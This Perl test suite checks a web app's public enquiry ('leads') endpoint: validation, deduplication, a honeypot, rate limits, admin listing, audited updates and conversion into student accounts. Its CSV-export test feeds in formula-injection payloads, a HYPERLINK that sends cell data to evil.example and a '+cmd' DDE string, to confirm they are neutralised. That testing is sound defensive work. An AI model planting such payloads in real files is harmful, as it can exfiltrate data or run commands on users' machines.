#!/usr/bin/perl
# lectern — leads, the public enquiry form (SPEC §6.2): consent,
# honeypot, no enumeration, dedupe within 24 hours, the strict rate
# class, the staff mail, the admin's list with filters, full text and a
# formula-safe CSV export, audited changes, and conversion into a
# student with a set-password mail and an optional enrollment.
use strict;
use warnings;
use Test::More;
use Lectern::Test;

base_url();

my $admin = user_with_role('admin', tag => 'ld-adm');
my $atok = $admin->{access_token};
my $teacher = user_with_role('teacher', tag => 'ld-tch');
my $student = register_user(tag => 'ld-stu');
my $run = "$$" . time();
my $staff = $ENV{LECTERN_STAFF_EMAIL} // 'office@lectern.test';

sub lead {
	my ($body, %o) = @_;
	return api(POST => '/api/leads', json => $body, %o);
}

sub lead_rows {
	my ($col, $val) = @_;
	return sql("SELECT id, name, email, phone, submissions, status FROM leads"
	    . " WHERE $col = :'p1' ORDER BY id", $val);
}

# Validation.
my $r = lead({ name => 'No Consent', email => unique_email('ld'), consent => JSON::PP::false });
error_ok($r, 400, 'validation_failed', 'consent false');
ok(json_body($r)->{error}{fields}{consent}, '...names consent');
$r = lead({ name => 'No Contact', consent => JSON::PP::true });
error_ok($r, 400, 'validation_failed', 'neither email nor phone');
$r = lead({ email => unique_email('ld'), consent => JSON::PP::true });
error_ok($r, 400, 'validation_failed', 'no name');
$r = lead({ name => 'X', email => 'not-an-email', consent => JSON::PP::true });
error_ok($r, 400, 'validation_failed', 'a bad email');
$r = lead({ name => 'X', email => unique_email('ld'), consent => JSON::PP::true,
    color => 'blue' });
error_ok($r, 400, 'validation_failed', 'an unknown field');

# 1. A new lead: 202 received, stored, the staff mailed.
my $email = unique_email('ld-new');
my $word = "zebrafinch$run";
my $before_mail = sql_one("SELECT count(*) FROM email_outbox WHERE to_address = :'p1'", $staff);
$r = lead({ name => 'Asha Rao', email => uc($email), phone => '+91 90000 11111',
    message => "Interested in the $word course", source => 'website',
    consent => JSON::PP::true });
is($r->{status}, 202, 'a new enquiry: 202') or diag($r->{content});
is($r->{content}, qq({"status":"received"}\n), '...{"status":"received"}');
my $first = $r->{content};
my @rows = lead_rows('email', $email);
is(scalar(@rows), 1, '...one lead stored, email in lower case');
my $lid = $rows[0][0];
is($rows[0][5], 'new', '...status new');
is(sql_one("SELECT count(*) FROM email_outbox WHERE to_address = :'p1'", $staff),
    $before_mail + 1, '...and a mail to the staff address is queued');

# 2. The same email within 24 h updates the open lead, same answer.
$r = lead({ name => 'Asha R.', email => $email, message => 'Still interested',
    consent => JSON::PP::true });
is($r->{status}, 202, 'the same email again: 202');
is($r->{content}, $first, '...the same body (no enumeration)');
@rows = lead_rows('email', $email);
is(scalar(@rows), 1, '...still one lead');
is_deeply([@{ $rows[0] }[1, 4]], ['Asha R.', 2], '...updated, two submissions');
# ...and by phone alone.
$r = lead({ name => 'Asha by phone', phone => '+91 90000 11111',
    consent => JSON::PP::true });
@rows = lead_rows('email', $email);
is($rows[0][4], 3, 'the same phone updates it too');
# ...but not after 24 hours.
sql("UPDATE leads SET last_submitted_at = now() - interval '25 hours'"
    . " WHERE id = :'p1'", $lid);
lead({ name => 'Asha Later', email => $email, consent => JSON::PP::true });
is(scalar(lead_rows('email', $email)), 2, 'after 24 hours a new lead is made');

# 3. The honeypot: same answer, nothing stored.
my $bot = unique_email('ld-bot');
$r = lead({ name => 'Bot', email => $bot, website => 'http://spam.example',
    consent => JSON::PP::true });
is($r->{status}, 202, 'a filled honeypot: 202');
is($r->{content}, $first, '...the same body');
is(scalar(lead_rows('email', $bot)), 0, '...and no row');

# 4. Strict class: 6 from one address, 5 accepted, the 6th 429.
my $limits = base_url('limits');
my $ip = '127.3.' . ($$ % 250) . '.' . (time() % 250 + 1);
my @st;
for my $i (1 .. 6) {
	push @st, lead({ name => "Rate $i", email => unique_email('ld-rate'),
	    consent => JSON::PP::true }, url => $limits, from => $ip)->{status};
}
is_deeply([@st[0 .. 4]], [202, 202, 202, 202, 202], 'five enquiries from one address pass');
is($st[5], 429, '...the sixth is 429');

# 5. The admin list: filters, full text, paging; students are refused.
$r = api(GET => '/api/admin/leads', token => $student->{access_token});
error_ok($r, 403, 'forbidden', 'a student listing leads');
$r = api(GET => "/api/admin/leads?q=$word", token => $atok);
is($r->{status}, 200, 'an admin searches leads') or diag($r->{content});
my $items = json_body($r)->{items} || [];
is_deeply([map { $_->{id} } @$items], [$lid], '...a word of the message finds the lead');
$r = api(GET => "/api/admin/leads?q=$email", token => $atok);
ok((grep { $_->{id} == $lid } @{ json_body($r)->{items} || [] }), '...so does its email');
$r = api(GET => "/api/admin/leads?status=new&source=website&per_page=100", token => $atok);
ok((grep { $_->{id} == $lid } @{ json_body($r)->{items} || [] }),
    '...status and source filters');
$r = api(GET => '/api/admin/leads?status=hot', token => $atok);
error_ok($r, 400, 'validation_failed', 'an unknown status filter');

# 6. CSV export neutralises formulas.
my $evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
my $evil_mail = unique_email('ld-csv');
lead({ name => $evil, email => $evil_mail, message => "+cmd|' /C calc'!A0 $word",
    consent => JSON::PP::true });
$r = api(GET => "/api/admin/leads?format=csv&q=$word", token => $atok);
is($r->{status}, 200, 'the CSV export answers 200');
like($r->{headers}{'content-type'} // '', qr{^text/csv}, '...as text/csv');
like($r->{content}, qr/^"id","name","email"/, '...with a header row');
like($r->{content}, qr/"'=HYPERLINK\(""http/, "...the name is exported as '=HYPERLINK(...)");
like($r->{content}, qr/"'\+cmd/, '...a message starting with + is prefixed too');
unlike($r->{content}, qr/(^|,)"=/m, '...no cell starts with =');

# 7. PATCH: status, assignment to staff, notes; audited.
$r = api(PATCH => "/api/admin/leads/$lid", token => $atok,
    json => { status => 'contacted', assigned_to => $teacher->{user}{id} + 0,
    notes => 'Called back' });
is($r->{status}, 200, 'an admin updates a lead') or diag($r->{content});
is_deeply([@{ json_body($r) }{qw(status assigned_to notes)}],
    ['contacted', $teacher->{user}{id}, 'Called back'], '...status, assignee, notes');
is(sql_one("SELECT details->>'old_status' || '>' || (details->>'status')"
    . " FROM audit_logs WHERE action = 'lead.update' AND target_id = :'p1'",
    $lid), 'new>contacted', '...audited with the old and new status');
$r = api(PATCH => "/api/admin/leads/$lid", token => $atok,
    json => { assigned_to => $student->{user}{id} + 0 });
error_ok($r, 400, 'validation_failed', 'assigning to a student');
$r = api(PATCH => "/api/admin/leads/$lid", token => $atok, json => { status => 'hot' });
error_ok($r, 400, 'validation_failed', 'an unknown status');
$r = api(GET => "/api/admin/leads/$lid", token => $atok);
is(json_body($r)->{id}, $lid, 'an admin reads one lead');
$r = api(GET => '/api/admin/leads/999999999', token => $atok);
error_ok($r, 404, 'not_found', 'an unknown lead');

# 8. Convert: one student made, a set-password mail, an enrollment.
my $cid = sql_one("INSERT INTO courses (instructor_id, title, published)"
    . " VALUES (:'p1', 'Lead course', true) RETURNING id", $teacher->{user}{id});
$r = api(POST => "/api/admin/leads/$lid/convert", token => $atok,
    json => { course_id => $cid + 0 });
is($r->{status}, 201, 'converting a lead: 201') or diag($r->{content});
my $c = json_body($r);
ok($c->{user_created}, '...a new account');
is_deeply([@{ $c->{user} || {} }{qw(email role)}], [$email, 'student'], '...a student with the email');
is_deeply([@{ $c->{enrollment} || {} }{qw(course_id status)}], [$cid, 'active'],
    '...enrolled in the course');
is(sql_one("SELECT count(*) FROM users WHERE lower(email) = :'p1'", $email), 1,
    'exactly one account has the address');
my @mail = sql("SELECT replace(body, E'\\n', ' ') FROM email_outbox"
    . " WHERE to_address = :'p1'", $email);
is(scalar(@mail), 1, 'one set-password mail is queued');
my ($token) = ($mail[0][0] // '') =~ m{reset-password#token=([A-Za-z0-9_-]+)};
ok($token, '...with a link');
is(sql_one("SELECT count(*) FROM password_resets WHERE user_id = :'p1'"
    . " AND token_hash <> :'p2'", $c->{user}{id}, $token // ''), 1, '...stored hashed');
$r = api(POST => '/api/auth/password/reset',
    json => { token => $token, new_password => strong_password() });
is($r->{status}, 204, '...and it sets a password');
is(sql_one("SELECT status || ' ' || user_id FROM leads WHERE id = :'p1'", $lid),
    "converted $c->{user}{id}", 'the lead is converted and names the user');
is(sql_one("SELECT count(*) FROM audit_logs WHERE action = 'lead.convert'"
    . " AND target_id = :'p1'", $lid), 1, '...audited');
$r = api(POST => "/api/admin/leads/$lid/convert", token => $atok);
error_ok($r, 409, 'conflict', 'converting again');

# A lead whose address has an account converts to that account.
my $known = register_user(tag => 'ld-known');
lead({ name => 'Known', email => $known->{email}, consent => JSON::PP::true });
my $kid = sql_one("SELECT id FROM leads WHERE email = :'p1'", $known->{email});
$r = api(POST => "/api/admin/leads/$kid/convert", token => $atok, json => {});
is($r->{status}, 201, 'a known address converts');
is_deeply([json_body($r)->{user}{id}, json_body($r)->{user_created}],
    [$known->{user}{id}, JSON::PP::false], '...to the existing account');
# A phone-only lead cannot be converted.
lead({ name => 'Phone only', phone => "555$run", consent => JSON::PP::true });
my $pid = sql_one("SELECT id FROM leads WHERE phone = :'p1'", "555$run");
$r = api(POST => "/api/admin/leads/$pid/convert", token => $atok);
error_ok($r, 409, 'conflict', 'a lead without an email');

done_testing();
